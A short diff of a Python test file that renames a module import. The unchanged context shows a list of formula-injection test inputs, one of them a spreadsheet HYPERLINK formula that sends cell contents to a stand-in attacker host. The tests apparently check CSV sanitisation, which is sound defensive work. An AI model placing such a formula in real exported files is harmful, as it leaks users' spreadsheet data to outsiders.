@@ -8,7 +8,7 @@ import io
 import pandas as pd
 import pytest
 
-from generator.core.csvfile import spreadsheet_cell, to_csv
+from account_playbooks.core.csvfile import spreadsheet_cell, to_csv
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1, "open")',
